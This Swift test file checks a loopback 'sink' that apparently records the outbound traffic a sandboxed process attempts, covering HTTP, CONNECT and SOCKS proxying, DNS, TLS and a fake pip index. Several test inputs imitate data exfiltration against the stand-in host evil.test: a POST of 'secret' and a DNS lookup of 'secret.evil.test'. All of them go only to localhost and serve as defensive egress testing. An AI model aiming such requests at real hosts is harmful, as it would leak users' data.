import FoundationEssentials
import Testing

@testable import CordonDrill

/// A sink on loopback, on ports that the system chose.
final class LocalSink {
  let sink: Sink
  let folder: String
  private let front: TLSFront?

  init(tls: Bool = false) throws {
    Posix.ignoreBrokenPipes()
    folder = try Posix.makeTemporaryFolder(prefix: "/tmp/drill-")
    var plan = SinkPlan(names: DNSAnswers(sinkV4: [192, 0, 2, 2], sinkV6: [UInt8](repeating: 1, count: 16)))
    let loopback = SocketAddress.v4([127, 0, 0, 1], port: 0)
    plan.listeners = [
      .init(address: loopback, origin: .sink), .init(address: loopback, origin: .index, label: "index"),
      .init(address: loopback, origin: .allowed),
      .init(address: .unix("\(folder)/host.sock"), origin: .sink, label: "host socket"),
    ]
    plan.datagrams = [loopback]
    plan.answersEveryDatagram = true
    guard tls else {
      sink = try Sink(plan)
      front = nil
      return
    }
    plan.tlsDoors = [.sink: "\(folder)/tls", .allowed: "\(folder)/tls-allowed"]
    plan.plainDoors = [.sink: "\(folder)/plain", .allowed: "\(folder)/plain-allowed"]
    let certificates = try Certificates.make(
      in: folder, allowedNames: ["DNS:allowed.test"], sinkNames: ["DNS:evil.test", "IP:127.0.0.1"])
    sink = try Sink(plan)
    front = try TLSFront([
      .init(pair: certificates.sink, encrypted: "\(folder)/tls", plain: "\(folder)/plain"),
      .init(pair: certificates.allowed, encrypted: "\(folder)/tls-allowed", plain: "\(folder)/plain-allowed"),
    ])
  }

  deinit {
    front?.stop()
    sink.stop()
    Files.remove(folder)
  }

  /// The port of the n-th listener: 0 the sink, 1 the index, 2 the allowed host.
  func port(_ index: Int) -> UInt16 { sink.addresses[index].port }

  /// Sends bytes, each part after an answer to the one before, and returns all answers.
  func talk(_ parts: [String], to index: Int = 0) throws -> [String] {
    try talk(parts.map { Array($0.utf8) }, to: .v4([127, 0, 0, 1], port: port(index)))
      .map { String(decoding: $0, as: UTF8.self) }
  }

  func talk(_ parts: [[UInt8]], to address: SocketAddress) throws -> [[UInt8]] {
    let descriptor = try Posix.connect(address)
    defer { Posix.closeDescriptor(descriptor) }
    return parts.map { part in
      var interest = [Posix.Interest(descriptor: descriptor, reading: false, writing: true)]
      Posix.wait(&interest, milliseconds: 5_000)
      _ = Posix.write(descriptor, part[...])
      interest = [Posix.Interest(descriptor: descriptor)]
      Posix.wait(&interest, milliseconds: 5_000)
      guard case .bytes(let bytes) = Posix.read(descriptor) else { return [] }
      return bytes
    }
  }

  func run(_ command: [String]) throws -> RunResult {
    try Running.run(Launch(arguments: command, environment: ["PATH": Tool.path]), seconds: 20)
  }

  /// What arrived, once it holds the text; the recorder runs on a thread of its own.
  func arrived(_ text: String, from origin: Origin = .sink) -> Bool {
    let end = Posix.monotonicSeconds() + 5
    repeat {
      let all = sink.recorder.arrivals(after: .init(event: 0), from: [origin])
      if all.contains(where: { $0.bytes.contains(subsequence: Array(text.utf8)) }) { return true }
      var nothing: [Posix.Interest] = []
      Posix.wait(&nothing, milliseconds: 10)
    } while Posix.monotonicSeconds() < end
    return false
  }
}

@Suite struct `The sink` {
  @Test func `a web request is answered, and recorded whole`() throws {
    let local = try LocalSink()
    let answers = try local.talk([
      "POST /up?q=1 HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 6\r\n\r\nsecret"
    ])
    #expect(answers[0].hasPrefix("HTTP/1.1 200"))
    #expect(local.arrived("secret"))
    #expect(local.arrived("/up?q=1"))
  }

  @Test func `a client that waits before its body is told to go on`() throws {
    let local = try LocalSink()
    let answers = try local.talk([
      "PUT /x HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n", "abc",
    ])
    #expect(answers[0].hasPrefix("HTTP/1.1 100"))
    #expect(answers[1].hasPrefix("HTTP/1.1 200"))
  }

  @Test func `several requests share a connection, chunked ones too`() throws {
    let local = try LocalSink()
    let chunked = "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4\r\ndata\r\n0\r\n\r\n"
    let answers = try local.talk([chunked, "GET /second HTTP/1.1\r\n\r\n"])
    #expect(answers.allSatisfy { $0.hasPrefix("HTTP/1.1 200") })
    #expect(local.arrived("/second"))
  }

  @Test func `it is an open proxy, so that a control gets through`() throws {
    let local = try LocalSink()
    let answers = try local.talk(["CONNECT evil.test:443 HTTP/1.1\r\n\r\n", "GET /inside HTTP/1.1\r\n\r\n"])
    #expect(answers[0].hasPrefix("HTTP/1.1 200 Connection"))
    #expect(answers[1].hasPrefix("HTTP/1.1 200"))
    #expect(local.arrived("/inside"))
  }

  @Test func `it speaks SOCKS`() throws {
    let local = try LocalSink()
    let name = Array("evil.test".utf8)
    let request: [UInt8] = [5, 1, 0, 3, UInt8(name.count)] + name + [0, 80]
    let answers = try local.talk(
      [[5, 1, 0], request, Array("GET /socks HTTP/1.1\r\n\r\n".utf8)],
      to: .v4([127, 0, 0, 1], port: local.port(0)))
    #expect(answers[0] == [5, 0])
    #expect(answers[1].first == 5)
    #expect(local.arrived("/socks"))
  }

  @Test func `an upgraded connection is recorded on`() throws {
    let local = try LocalSink()
    let answers = try local.talk(["GET / HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"])
    #expect(answers[0].hasPrefix("HTTP/1.1 101"))
  }

  @Test(arguments: ["nonsense\n", "\0\u{1}\u{2}", "SSH-2.0-x\r\n", "G", "GET", "\r\n\r\n"])
  func `what it does not understand is recorded all the same`(text: String) throws {
    let local = try LocalSink()
    let descriptor = try Posix.connect(.v4([127, 0, 0, 1], port: local.port(0)))
    defer { Posix.closeDescriptor(descriptor) }
    var interest = [Posix.Interest(descriptor: descriptor, reading: false, writing: true)]
    Posix.wait(&interest, milliseconds: 5_000)
    _ = Posix.write(descriptor, Array(text.utf8)[...])
    #expect(local.arrived(text))
  }

  @Test func `a Unix socket of the host leads to it`() throws {
    let local = try LocalSink()
    let answers = try local.talk(
      [Array("GET /unix HTTP/1.1\r\n\r\n".utf8)], to: .unix("\(local.folder)/host.sock"))
    #expect(String(decoding: answers[0], as: UTF8.self).hasPrefix("HTTP/1.1 200"))
    #expect(local.sink.recorder.contacts(after: .init(event: 0), from: .sink) == ["host socket"])
  }

  @Test func `every name is answered, and what was asked is recorded`() throws {
    let local = try LocalSink()
    let port = local.sink.datagramAddresses[0].port
    let script =
      Preludes.python + """
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.sendto(question("secret.evil.test"), ("127.0.0.1", \(port)))
        print(socket.inet_ntoa(sock.recv(999)[-4:]))
        """
    let result = try local.run(["python3", "-I", "-c", script])
    #expect(result.text.contains("192.0.2.2"))
    #expect(local.sink.recorder.arrivals(after: .init(event: 0)).map(\.name) == ["secret.evil.test"])
  }

  @Test func `TLS is ended for every door, and the inside recorded`() throws {
    let local = try LocalSink(tls: true)
    for (index, origin) in [(0, Origin.sink), (2, .allowed)] {
      let result = try local.run([
        "curl", "-sk", "--max-time", "10", "https://127.0.0.1:\(local.port(index))/inside-\(index)",
      ])
      #expect(result.text == "drill\n")
      #expect(local.arrived("/inside-\(index)", from: origin))
    }
  }

  @Test func `TLS inside a tunnel of the open proxy is ended as well, and its server name recorded`() throws {
    let local = try LocalSink(tls: true)
    let result = try local.run([
      "curl", "-sk", "--max-time", "10", "-x", "http://127.0.0.1:\(local.port(0))",
      "https://name.evil.test/deep",
    ])
    #expect(result.text == "drill\n")
    #expect(local.arrived("/deep"))
    #expect(local.arrived("name.evil.test"))
  }

  @Test func `the index has whatever pip asks for`() throws {
    let local = try LocalSink()
    let folder = try Posix.makeTemporaryFolder(prefix: "/tmp/drill-pip-")
    defer { Files.remove(folder) }
    let result = try local.run([
      "python3", "-m", "pip", "--isolated", "--disable-pip-version-check", "download", "-q", "--no-deps",
      "-i",
      "http://127.0.0.1:\(local.port(1))/simple/", "-d", folder, "some-package",
    ])
    #expect(result.status == 0, "\(result.errorText)")
    #expect(FileManager.default.fileExists(atPath: "\(folder)/some_package-1.0-py3-none-any.whl"))
    #expect(local.arrived("GET /simple/some-package/", from: .index))
    #expect(local.sink.recorder.contacts(after: .init(event: 0), from: .sink).isEmpty)
  }

  @Test func `memory is bounded, and what did not fit is counted`() {
    let recorder = Recorder(sizeLimit: 100, eventLimit: 5)
    let stream = recorder.open(.sink, at: "x")
    recorder.append([UInt8](repeating: 7, count: 80), to: stream)
    recorder.append([UInt8](repeating: 7, count: 80), to: stream)
    #expect(recorder.lost == 1)
    for _ in 0..<10 { recorder.datagram(.sink, at: "y", [1]) }
    #expect(recorder.lost == 8)
    #expect(recorder.arrivals(after: .init(event: 0)).first?.bytes.count == 80)
  }

  @Test func `only what came after a mark is shown, and streams are put together`() {
    let recorder = Recorder()
    let stream = recorder.open(.allowed, at: "stream")
    recorder.append(Array("before".utf8), to: stream)
    let mark = recorder.mark()
    recorder.append(Array("af".utf8), to: stream)
    recorder.datagram(.sink, at: "datagram", [9])
    recorder.append(Array("ter".utf8), to: stream)
    let arrivals = recorder.arrivals(after: mark)
    #expect(arrivals.map { String(decoding: $0.bytes, as: UTF8.self) } == ["after", "\t"])
    #expect(recorder.contacts(after: mark, from: .sink) == ["datagram"])
  }
}
